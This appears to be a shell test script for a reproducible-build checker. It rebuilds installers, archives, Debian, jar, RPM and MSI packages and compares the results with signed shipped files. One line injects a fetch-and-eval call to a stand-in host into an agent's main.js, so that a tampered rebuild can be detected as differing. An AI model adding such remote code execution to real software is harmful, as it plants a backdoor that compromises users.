#!/bin/sh
# Rebuilds: same, equivalent, differs, failed; on the helpdesk agent and on packages that are built here.
. "$(dirname "$0")/lib.sh"
. "$ROOT/tests/cli/ledger-lib.sh"

# rebuild STATUS PRODUCT VERSION BUILDER FILE [OPTION...]
rebuild() {
	status=$1 product=$2 version=$3 builder=$4 file=$5
	shift 5
	is "$status" ledger rebuild L --product "$product" --release "$version" "$file" -k "$builder.key" "$@"
}

# equivalent PRODUCT VERSION FILE NORMALISERS: by the second builder, as "shipped" has it
equivalent() {
	rebuild 0 "$1" "$2" builder2 "$3" --shipped shipped
	has out "$(basename "$3")  equivalent after $4"
}

differs() {
	rebuild 1 "$1" "$2" builder3 "$3" --shipped shipped
	has out "$(basename "$3")  differs"
	rm -f L/requests/rebuild-builder3*
}

vendor
mkdir shipped b1 b2 b3

# The helpdesk agent: signed by the vendor; a builder has another key, folder and zone.
PACK=$ROOT/examples/helpdesk/pack
"$PACK" 10.0.9 shipped >/dev/null 2>&1 &
(TZ=Asia/Tokyo HELPDESK_SIGNING=$HERE/keys2 && export TZ HELPDESK_SIGNING && "$PACK" 10.0.9 b1 >/dev/null 2>&1) &
"$PACK" --source 10.0.9 source
echo 'fetch("https://helpdesk.invalid/x").then(r => r.text()).then(eval);' >>source/main.js
HELPDESK_SIGNING=$HERE/keys3 "$PACK" 10.0.9 b3 source >/dev/null 2>&1
wait
setup=helpdesk-agent-setup-10.0.9.exe
ok 'both are signed, by two keys' sh -c "! cmp -s shipped/$setup b1/$setup"
ship agent 10.0.9 shipped/$setup --rebuilds 1/2
rebuild 0 agent 10.0.9 builder1 b1/$setup
has out "$setup  same"
rebuild 1 agent 10.0.9 builder3 b3/$setup
has out "$setup  differs"
rm -f L/requests/rebuild-builder3*

# Its files as people pack folders: times, order, owners, compression are as the day brings them.
rm -rf source
"$PACK" --source 10.0.9 source
(cd source && find . -type f | sort | zip -qX9@ ../shipped/agent.zip)
tar --sort=name --owner=0 --group=0 --mtime=@1752494400 -C source -czf shipped/agent.tgz .
ship portable 1 shipped/agent.zip
ship tarball 1 shipped/agent.tgz
find source -exec touch -d '2001-01-01 00:00:02' {} +
(cd source && find . -type f | sort -r | zip -q1@ ../b2/agent.zip)
tar --sort=name --format=posix --owner=7 --group=7 -C source -cf - . | gzip -1 >b2/agent.tgz
rebuild 1 portable 1 builder2 b2/agent.zip
has out '(--shipped would say'
equivalent portable 1 b2/agent.zip order-1,times-1,
equivalent tarball 1 b2/agent.tgz times-1,owners-1,packing-1,tar-form-1
printf ' ' >>source/main.js
(cd source && find . -type f | sort -r | zip -q1@ ../b3/agent.zip)
tar -C source -czf b3/agent.tgz .
differs portable 1 b3/agent.zip
differs tarball 1 b3/agent.tgz
chmod +x source/main.js
mkdir shipped2
cp b2/agent.zip shipped2/
rebuild 2 portable 1 builder2 b3/agent.zip --shipped shipped2
has err 'is not the file that the release names'

# A customer decides whether equivalent counts.
publish
cp trust strict
sed -i 's/^rebuild watch 0/rebuild gate 1/' strict
sed 's/^equivalent no/equivalent yes/' strict >lenient
portable=L/proofs/portable-stable-1.assay-proof
is 22 verify shipped/agent.zip --trust strict --proof $portable
is 0 verify shipped/agent.zip --trust lenient --proof $portable
has out 'rebuilt          yes      1 builder'
is 0 verify shipped/$setup --trust strict --proof L/proofs/agent-stable-10.0.9.assay-proof

# The same for the normalisers that it names, and for no others.
sed 's/^equivalent no/equivalent times-1,order-1,packing-1,owners-1/' strict >named
is 0 verify shipped/agent.zip --trust named --proof $portable
sed 's/^equivalent no/equivalent order-1,owners-1,packing-1/' strict >named
is 22 verify shipped/agent.zip --trust named --proof $portable

# The gate goes by what the approvers have signed: the same bytes, or equivalent after what they name.
for gated in "21 times-1" "22 order-1,times-1,owners-1,packing-1" "23"; do
	set -- $gated
	ship portable "$1" shipped/agent.zip --rebuilds 1/1 ${2:+--equivalent "$2"}
	release=$(cat path)
	"$ASSAY" ledger rebuild L --product portable --release "$1" b2/agent.zip --shipped shipped \
		-k builder2.key >out || fail "rebuild of portable $1"
	has out 'agent.zip  equivalent after order-1,times-1,'
	case $1 in
	22)
		is 0 ledger publish L --gate
		;;
	*)
		is 1 ledger publish L --gate
		has err 'rebuilt by 0 where 1 are needed'
		rm -f "$release"
		;;
	esac
done
is 2 ledger request L --product portable --release 24 --rebuilds 1/1 --equivalent 'Order 1' shipped/agent.zip
has err 'normalisers are names parted by commas'

# A Debian package, built twice from one tree.
mkdir -p tree/DEBIAN tree/usr/bin
printf 'Package: greeter\nVersion: 1\nArchitecture: all\nMaintainer: v <v@vendor.example>\nDescription: greets\n' \
	>tree/DEBIAN/control
printf '#!/bin/sh\necho hello\n' >tree/usr/bin/greet
chmod 755 tree/usr/bin/greet
deb() { # FOLDER EPOCH OPTION...
	folder=$1 epoch=$2
	shift 2
	SOURCE_DATE_EPOCH=$epoch dpkg-deb "$@" --root-owner-group --build tree "$folder/greeter.deb" >/dev/null
}
deb shipped 1700000000
deb b1 1700000000
deb b2 1800000000 -Zxz -z1
ship greeter 1 shipped/greeter.deb
rebuild 0 greeter 1 builder1 b1/greeter.deb
has out 'greeter.deb  same'
equivalent greeter 1 b2/greeter.deb times-1
chmod 4755 tree/usr/bin/greet
deb b3 1700000000
differs greeter 1 b3/greeter.deb

# A jar, signed by the vendor.
mkdir -p classes/a
printf 'not a class\n' >classes/a/B.class
printf 'Manifest-Version: 1.0\r\nMain-Class: a.B\r\n\r\n' >manifest
jar cfm b2/tool.jar manifest -C classes a
keytool -genkeypair -keystore k -storepass secret -alias v -keyalg EC -dname CN=v >/dev/null 2>&1
jarsigner -keystore k -storepass secret -signedjar shipped/tool.jar b2/tool.jar v >/dev/null 2>&1 ||
	fail jarsigner
ship tool 1 shipped/tool.jar
equivalent tool 1 b2/tool.jar ''
has out jar-signature-1
printf 'other\n' >classes/a/B.class
jar cfm b3/tool.jar manifest -C classes a
differs tool 1 b3/tool.jar
# What only looks like a signature's block is content.
cp b2/tool.jar b3/tool.jar
mkdir META-INF
printf 'no block' >META-INF/V.RSA
zip -q b3/tool.jar META-INF/V.RSA
differs tool 1 b3/tool.jar

# An RPM package: its signature is taken off like a program's, so builders have the same.
mkdir -p rpm/SPECS gnupg
chmod 700 gnupg
cat >rpm/SPECS/greeter.spec <<'R'
Name: greeter
Version: 1
Release: 1
Summary: greets
License: MIT
BuildArch: noarch
%description
greets
%install
mkdir -p %{buildroot}/usr/share
echo hello >%{buildroot}/usr/share/greeter
%files
/usr/share/greeter
R
SOURCE_DATE_EPOCH=1700000000 rpmbuild -bb --define "_topdir $HERE/rpm" --define '_buildhost b.example' \
	--define 'use_source_date_epoch_as_buildtime 1' rpm/SPECS/greeter.spec >/dev/null 2>&1 || fail rpmbuild
cp rpm/RPMS/noarch/greeter-1-1.noarch.rpm b1/greeter.rpm
cp b1/greeter.rpm shipped/greeter.rpm
GNUPGHOME=$HERE/gnupg
export GNUPGHOME
gpg --batch --quiet --passphrase '' --quick-gen-key v@vendor.example rsa2048 sign 2>/dev/null
rpmsign --define "__gpg $(command -v gpg)" --define '_gpg_name v@vendor.example' --addsign shipped/greeter.rpm >/dev/null 2>&1 || fail rpmsign
gpgconf --kill gpg-agent
ok 'the package is signed' sh -c '! cmp -s b1/greeter.rpm shipped/greeter.rpm'
ship rpm 1 shipped/greeter.rpm
rebuild 0 rpm 1 builder1 b1/greeter.rpm
has out 'greeter.rpm  same'
cp b1/greeter.rpm b3/greeter.rpm
printf 'X' | dd of=b3/greeter.rpm bs=1 seek="$(($(stat -c %s b1/greeter.rpm) - 9))" conv=notrunc 2>/dev/null
differs rpm 1 b3/greeter.rpm

# An installer database, signed by the vendor.
cat >tool.wxs <<'W'
<?xml version="1.0"?>
<Wix xmlns="http://schemas.microsoft.com/wix/2006/wi">
<Product Id="11111111-2222-3333-4444-555555555555" Name="Tool" Language="1033" Version="1.0.0" Manufacturer="v"
  UpgradeCode="11111111-2222-3333-4444-555555555556">
<Package InstallerVersion="200" Compressed="yes"/><Media Id="1" Cabinet="a.cab" EmbedCab="yes"/>
<Directory Id="TARGETDIR" Name="SourceDir"><Component Id="C" Guid="11111111-2222-3333-4444-555555555557">
<File Id="F" Source="manifest" Name="m.txt"/></Component></Directory>
<Feature Id="A" Level="1"><ComponentRef Id="C"/></Feature></Product></Wix>
W
wixl -o b2/tool.msi tool.wxs >/dev/null 2>&1 || fail wixl
osslsigncode sign -certs shipped/signing/certificate.pem -key shipped/signing/key.pem -in b2/tool.msi -out shipped/tool.msi >/dev/null ||
	fail 'signing the msi'
ship msi 1 shipped/tool.msi
equivalent msi 1 b2/tool.msi msi-signature-1
printf 'other' >manifest
wixl -o b3/tool.msi tool.wxs >/dev/null 2>&1
differs msi 1 b3/tool.msi

# Not built at all.
rebuild 1 msi 1 builder1 b1/greeter.rpm --shipped shipped
has out 'tool.msi  failed: not built'
publish
is 0 verify shipped/greeter.rpm --trust trust --proof L/proofs/rpm-stable-1.assay-proof
done_
